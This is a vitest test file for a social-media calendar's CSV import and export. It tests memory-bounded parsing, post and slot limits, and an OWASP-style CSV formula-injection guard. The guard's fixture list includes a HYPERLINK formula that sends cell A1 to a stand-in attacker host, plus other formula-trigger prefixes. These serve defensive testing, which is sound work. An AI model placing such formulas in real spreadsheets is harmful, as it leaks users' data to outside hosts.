/**
 * planFromCsv and planToCsv on adversarial input (issue 13): big files read
 * row by row under a memory limit, the plan's post limit enforced while
 * reading, the CSV formula-injection guard and its exact round trip, and
 * localTime checked however `at` is spelt.
 */
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { guardCsvCell, unguardCsvCell } from '../../src/core/csv-cell.js';
import { planFromCsv, planToCsv, type PlanInput } from '../../src/calendar/index.js';
import { MAX_PLAN_POSTS } from '../../src/calendar/plan.js';
import { ValidationError } from '../../src/core/index.js';

const HEADER = 'id,platform,at,localTime,pillar,format,objectiveType,language,text\n';
const row = (id: string, at: string, localTime: string, text = 'Bonjour') => `${id},instagram,${at},${localTime},savoirFaire,image,engagement,fr,${text}\n`;

function errorOf(run: () => unknown): ValidationError {
  try {
    run();
  } catch (error) {
    if (error instanceof ValidationError) return error;
    throw error;
  }
  throw new Error('expected a ValidationError');
}

const base = { platform: 'instagram', format: 'image', pillar: 'savoirFaire', objectiveType: 'engagement', language: 'fr' } as const;
const plan = (texts: readonly string[], extra: Record<string, unknown> = {}): PlanInput => ({
  timeZone: 'Europe/Paris',
  period: { from: '2027-01-01', to: '2027-01-31' },
  posts: texts.map((text, i) => ({ ...base, ...extra, id: `p${i}`, text, at: `2027-01-06T${String(8 + (i % 10)).padStart(2, '0')}:00:00Z`, localTime: `${String(9 + (i % 10)).padStart(2, '0')}:00` })),
});

describe('planFromCsv on big inputs', () => {
  it('stops at line 2 of a 10 MB file in a child process limited to 256 MB of heap (it split the whole file first: 5.4 s, 2.6 GB)', () => {
    const src = fileURLToPath(new URL('../../src/calendar/index.ts', import.meta.url));
    const code = `
      import { planFromCsv } from ${JSON.stringify(src)};
      const csv = ${JSON.stringify(HEADER)} + 'x\\n'.repeat(5_000_000);
      try { planFromCsv(csv); console.log(JSON.stringify({ returned: true })); }
      catch (e) { console.log(JSON.stringify({ name: e.name, code: e.issues?.[0]?.code, path: e.issues?.[0]?.path, message: e.message })); }`;
    const child = spawnSync(process.execPath, ['--max-old-space-size=256', '--import', 'tsx', '--input-type=module', '-e', code], { encoding: 'utf8', timeout: 20_000 });
    expect(child.stderr).toBe('');
    expect(child.status).toBe(0);
    const out = JSON.parse(child.stdout.trim()) as { name: string; code: string; path: unknown[]; message: string };
    expect(out).toMatchObject({ name: 'ValidationError', code: 'invalidCsv', path: [2, 'platform'] });
    expect(out.message).toMatch(/^Line 2, column 2 \(platform\)/);
  });

  it(`refuses post ${MAX_PLAN_POSTS + 1} while reading (tooManyPosts), instead of returning more posts than a plan holds`, () => {
    const rows: string[] = [HEADER];
    for (let i = 0; i <= MAX_PLAN_POSTS; i += 1) rows.push(`p${i},x,2027-01-06T09:00:00Z,09:00,a,text,engagement,fr,t\n`);
    const e = errorOf(() => planFromCsv(rows.join('')));
    expect(e.issues[0]?.code).toBe('tooManyPosts');
    expect(e.issues[0]?.path).toEqual([MAX_PLAN_POSTS + 2, 1]);
    expect(e.message).toContain(`Line ${MAX_PLAN_POSTS + 2}`);
  }, 60_000);

  it('names the line and column of the first bad row, even with worse rows after it', () => {
    const csv = HEADER + row('a', '2027-01-06T09:00:00+01:00', '09:00') + row('b', '2027-01-06T09:00:00+01:00', '25:00') + 'x\n'.repeat(1000);
    const e = errorOf(() => planFromCsv(csv));
    expect(e.issues[0]?.path).toEqual([3, 'localTime']);
    expect(e.message).toMatch(/^Line 3, column 4 \(localTime\)/);
  });
});

describe('planFromCsv checks localTime against the local time of at, however at is spelt', () => {
  it.each([
    ['a space for T', '2027-01-06 09:00:00+01:00'],
    ['a lower-case t', '2027-01-06t09:00+01:00'],
    ['an offset without colon', '2027-01-06T09:00:00+0100'],
    ['milliseconds', '2027-01-06T09:00:00.000+01:00'],
    ['an hour-only offset', '2027-01-06T09:00+01'],
    ['a negative offset', '2027-01-06T03:00:00-05:00'],
  ])('%s: %s', (_what, at) => {
    const local = at.slice(11, 16);
    expect(planFromCsv(HEADER + row('a', at, local))[0]?.localTime).toBe(local);
    const wrong = local === '10:00' ? '11:00' : '10:00';
    const e = errorOf(() => planFromCsv(HEADER + row('a', at, wrong)));
    expect(e.issues[0]?.path).toEqual([2, 'localTime']);
    expect(e.message).toContain(`'${wrong}' is not the local time of at`);
  });

  it('a UTC instant (Z) says nothing of the local time: not compared (planToCsv writes it for local mean time)', () => {
    expect(planFromCsv(HEADER + row('a', '2027-01-06T08:00:00Z', '09:00'))[0]?.localTime).toBe('09:00');
  });
});

describe('the CSV formula-injection guard (OWASP, https://owasp.org/www-community/attacks/CSV_Injection)', () => {
  const dangerous = ['=HYPERLINK("https://evil.example/?"&A1,"Voir")', '@SUM(1+1)', '+33 6 12 34 56 78', '-2 %', "'déjà cité", '\tcmd', '\r=1+1', "'=x", "''"];

  it('planToCsv prefixes every text cell a spreadsheet would evaluate with an apostrophe, and planFromCsv gives it back exactly', () => {
    const p = plan(dangerous, { callToAction: '=Réservez', observanceId: '-valentin', pillar: '@pillar' });
    const csv = planToCsv(p);
    const lines = csv.split('\r\n');
    expect(lines[1]).toContain(`,'@pillar,`);
    expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Voir"")"`);
    expect(lines[2]).toContain(",'@SUM(1+1),'=Réservez,");
    expect(lines[1]).toContain(",draft,0,'-valentin,");
    const back = planFromCsv(csv);
    expect(back.map((q) => q.text)).toEqual(dangerous);
    expect(back.every((q) => q.callToAction === '=Réservez' && q.observanceId === '-valentin' && q.pillar === '@pillar')).toBe(true);
  });

  it("formulas: 'keep' writes the cells as they are", () => {
    const csv = planToCsv(plan(['=1+1', '@x']), { formulas: 'keep' });
    expect(csv.split('\r\n')[1]).toContain(',fr,=1+1,');
    expect(csv.split('\r\n')[2]).toContain(',fr,@x,');
    expect(planFromCsv(csv).map((q) => q.text)).toEqual(['=1+1', '@x']);
  });

  it('refuses another formulas option', () => {
    expect(errorOf(() => planToCsv(plan(['a']), { formulas: 'strip' as never })).issues[0]?.path).toEqual(['options', 'formulas']);
  });

  it('never touches a number cell, nor a text that starts otherwise; one apostrophe is removed only before a guarded character', () => {
    const csv = planToCsv(plan(['Bonjour'], { priority: 3 }));
    expect(csv.split('\r\n')[1]).toContain(',draft,3,,');
    expect(guardCsvCell('Bonjour')).toBe('Bonjour');
    expect(guardCsvCell('')).toBe('');
    expect(guardCsvCell('=1', 'keep')).toBe('=1');
    expect(unguardCsvCell("'note")).toBe("'note");
    expect(unguardCsvCell("'=1")).toBe('=1');
    expect(unguardCsvCell("''=1")).toBe("'=1");
    for (const s of [...dangerous, 'a', "'", "'a", '', '=']) expect(unguardCsvCell(guardCsvCell(s))).toBe(s);
  });
});

describe('planCalendar within its other limits: more than 500,000 candidate slots', () => {
  const times = Array.from({ length: 1440 }, (_, m) => `${String(Math.floor(m / 60)).padStart(2, '0')}:${String(m % 60).padStart(2, '0')}`);
  const every = ['mon', 'tue', 'wed', 'thu', 'fri', 'sat', 'sun'] as const;
  const platforms = ['x', 'instagram', 'facebook', 'linkedin', 'tiktok', 'youtube', 'threads', 'bluesky', 'mastodon', 'pinterest'] as const;
  const input = (days: number, list: readonly (typeof platforms)[number][] = platforms) => ({
    period: { from: '2027-01-01', to: new Date(Date.UTC(2027, 0, days)).toISOString().slice(0, 10) },
    timeZone: 'Europe/Paris',
    platforms: [...list],
    editorialLine: { name: 'B', languages: ['fr'], frequencyPerWeek: Object.fromEntries(list.map((p) => [p, 7])), pillars: [{ id: 'a', name: 'A', targetShare: 1 }] },
    slots: Object.fromEntries(
      list.map((p) => [
        p,
        [
          { kind: 'weekly', weekdays: [...every], times, timeZone: 'Europe/Paris' },
          { kind: 'weekly', weekdays: [...every], times, timeZone: 'America/New_York' },
        ],
      ]),
    ),
  });

  it('10 platforms × 2 series × 1,440 times a day × 690 days (17–24 s and 1.65 GB) is tooManySlots, with the count in the message', async () => {
    const { planCalendar } = await import('../../src/calendar/index.js');
    const e = errorOf(() => planCalendar(input(690) as never));
    expect(e.issues[0]?.code).toBe('tooManySlots');
    expect(e.issues[0]?.path).toEqual(['slots']);
    // 692 days (the day before and after, for the zones) × 1,440 times × 2 series × 10 platforms.
    expect(e.message).toContain(`${(692 * 1440 * 2 * 10).toLocaleString('en')} candidate slots`);
  });

  it('a plan under the limit is built (1 platform, 1,440 times a day, 100 days)', async () => {
    const { planCalendar } = await import('../../src/calendar/index.js');
    const p = planCalendar({ ...input(100, ['x']), slots: { x: [{ kind: 'weekly', weekdays: [...every], times, timeZone: 'Europe/Paris' }] } } as never);
    expect(p.posts.length).toBe(100); // 7 a week
  });
});
